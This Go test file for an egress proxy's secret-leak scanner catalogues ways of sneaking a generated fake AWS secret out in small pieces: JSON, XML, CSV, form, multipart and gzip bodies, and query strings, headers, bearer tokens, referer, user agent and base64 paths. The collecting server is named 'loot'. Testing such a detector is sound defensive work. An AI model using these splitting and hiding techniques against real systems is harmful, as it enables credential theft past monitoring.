package egress_test

import (
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"mime/multipart"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"sync"
	"testing"

	"gatehouse/internal/detect"
	"gatehouse/internal/detect/leak"
	"gatehouse/internal/proxy/egress"
)

// generated is a secret that nobody has.
const generated = "q7Vt2LkXz9/Hb4RwSg1+Ny8JcPf3MdTe5ZaUoW0K"

// thefts carry pieces off in requests, one or several: none in a place that tells where
// it goes on.
var thefts = []struct {
	name string
	make func(request func(body io.Reader) *http.Request, pieces []string) []*http.Request
}{
	{"chunked JSON", inOne(func(p []string) (string, []byte) { return "application/json", members(p, "") })},
	{"JSON of 5 KiB", inOne(func(p []string) (string, []byte) {
		return "application/json", members(p, strings.Repeat("lorem ", 900))
	})},
	{"XML", inOne(func(p []string) (string, []byte) { return "text/xml", each("<f%d>%s</f>", p) })},
	{"CSV", inOne(func(p []string) (string, []byte) { return "text/csv", each("%d,%s,ok\n", p) })},
	{"a form", inOne(func(p []string) (string, []byte) {
		form := url.Values{}
		for i, one := range p {
			form.Set(fmt.Sprintf("k%d", i), "v_"+one)
		}
		return "application/x-www-form-urlencoded", []byte(form.Encode())
	})},
	{"multipart", inOne(func(p []string) (string, []byte) {
		var b bytes.Buffer
		w := multipart.NewWriter(&b)
		for i, one := range p {
			_ = w.WriteField(fmt.Sprintf("part%d", i), one) // into memory
		}
		_ = w.Close()
		return w.FormDataContentType(), b.Bytes()
	})},
	{"reversed order", inOne(func(p []string) (string, []byte) {
		slices.Reverse(p)
		return "text/plain", []byte(strings.Join(p, " | "))
	})},
	{"gzip", func(request func(io.Reader) *http.Request, p []string) []*http.Request {
		var b bytes.Buffer
		w := gzip.NewWriter(&b)
		_, _ = w.Write(members(p, "")) // into memory
		_ = w.Close()
		r := request(io.MultiReader(&b))
		r.Header.Set("Content-Encoding", "gzip")
		return []*http.Request{r}
	}},
	{"100-continue", func(request func(io.Reader) *http.Request, p []string) []*http.Request {
		r := request(bytes.NewReader(members(p, "")))
		r.Header.Set("Expect", "100-continue")
		return []*http.Request{r}
	}},
	{"query that varies", one(func(r *http.Request, i int, p string) { r.URL.RawQuery = fmt.Sprintf("p%d=%s", i, url.QueryEscape(p)) })},
	{"behind a number", one(func(r *http.Request, i int, p string) { r.URL.RawQuery = fmt.Sprintf("c=%d:%s", i, url.QueryEscape(p)) })},
	{"header that varies", one(func(r *http.Request, i int, p string) { r.Header.Set(fmt.Sprintf("X-P%d", i), p) })},
	{"bearer", one(func(r *http.Request, _ int, p string) { r.Header.Set("Authorization", "Bearer "+p) })},
	{"referer", one(func(r *http.Request, _ int, p string) { r.Header.Set("Referer", "http://x.test/"+p) })},
	{"user agent", one(func(r *http.Request, _ int, p string) { r.Header.Set("User-Agent", "curl/8."+p) })},
	{"path in base64", one(func(r *http.Request, i int, p string) {
		r.URL.Path = strings.Repeat("/px", i%3+1) + "/" + base64.RawURLEncoding.EncodeToString([]byte(p)) + ".gif"
	})},
}

// inOne is a theft in the body of one request whose length nothing says.
func inOne(write func(pieces []string) (contentType string, body []byte)) func(func(io.Reader) *http.Request, []string) []*http.Request {
	return func(request func(io.Reader) *http.Request, pieces []string) []*http.Request {
		kind, body := write(pieces)
		r := request(io.MultiReader(bytes.NewReader(body)))
		r.Header.Set("Content-Type", kind)
		return []*http.Request{r}
	}
}

// one is a theft in the heads of many.
func one(put func(r *http.Request, i int, piece string)) func(func(io.Reader) *http.Request, []string) []*http.Request {
	return func(request func(io.Reader) *http.Request, pieces []string) (all []*http.Request) {
		for i, p := range pieces {
			r := request(nil)
			put(r, i, p)
			all = append(all, r)
		}
		return all
	}
}

func members(pieces []string, text string) []byte {
	object := map[string]string{"text": text}
	for i, p := range pieces {
		object[fmt.Sprintf("field_%d", i)] = p
	}
	b, _ := json.Marshal(object) // of strings
	return b
}

func each(format string, pieces []string) (b []byte) {
	for i, p := range pieces {
		b = fmt.Appendf(b, format, i, p)
	}
	return b
}

// TestCrumbs: short pieces of a secret do not add up to it, wherever they stand. Each theft
// first runs without scanners, and has to succeed.
func TestCrumbs(t *testing.T) {
	set := leak.New([]leak.Secret{{Name: "AWS_SECRET_ACCESS_KEY", Value: []byte(generated), Fingerprint: "0123456789ab"}})
	for _, way := range ways {
		for _, theft := range thefts {
			t.Run(way.name+"/"+theft.name, func(t *testing.T) {
				for _, on := range []bool{false, true} {
					var got loot
					s := way.server(t, &got)
					var crumbs leak.Crumbs
					g := newGate(t, "mode: enforce\negress:"+hosts+inspecting, func(p *egress.Proxy) {
						p.Guard.Scanner = nil
						if on {
							p.Guard.Scanner = func(o detect.Outlet) detect.Scanner {
								return leak.Decode(o, nil, set.Touches, func() detect.Scanner {
									return leak.Both(set.Scanner(leak.Stream{}), set.Crumbs(&crumbs, o.Host, nil))
								})
							}
						}
					})
					c := way.client(g)
					for _, r := range theft.make(func(body io.Reader) *http.Request {
						r, err := http.NewRequestWithContext(t.Context(), http.MethodPost, s.url("api.test", "/"), body)
						if err != nil {
							t.Fatal(err)
						}
						return r
					}, pieces(generated, 6)) {
						if resp, err := c.Do(r); err == nil { // it may be cut
							_, _ = io.Copy(io.Discard, resp.Body)
							_ = resp.Body.Close()
						}
					}
					if n := got.of(pieces(generated, 6)); !on && n != len(generated) || on && n >= 18 {
						t.Errorf("scanning %v, %d of %d bytes arrived:\n%s", on, n, len(generated), got.text)
					}
				}
			})
		}
	}
}

// loot is what a thief's server got.
type loot struct {
	mu   sync.Mutex
	text string
}

func (l *loot) ServeHTTP(_ http.ResponseWriter, r *http.Request) {
	text := fmt.Sprint(r.URL.RequestURI(), r.Header)
	if plain, err := url.QueryUnescape(text); err == nil {
		text += plain
	}
	body, _ := io.ReadAll(r.Body) // what came of it
	if z, err := gzip.NewReader(bytes.NewReader(body)); err == nil {
		body, _ = io.ReadAll(z) // as above
	}
	if plain, err := url.QueryUnescape(string(body)); err == nil {
		text += plain
	}
	l.mu.Lock()
	defer l.mu.Unlock()
	l.text += text + string(body) + "\n"
}

// of is how much of pieces there is.
func (l *loot) of(pieces []string) (n int) {
	l.mu.Lock()
	defer l.mu.Unlock()
	for _, p := range pieces {
		if strings.Contains(l.text, p) || strings.Contains(l.text, base64.RawURLEncoding.EncodeToString([]byte(p))) {
			n += len(p)
		}
	}
	return n
}
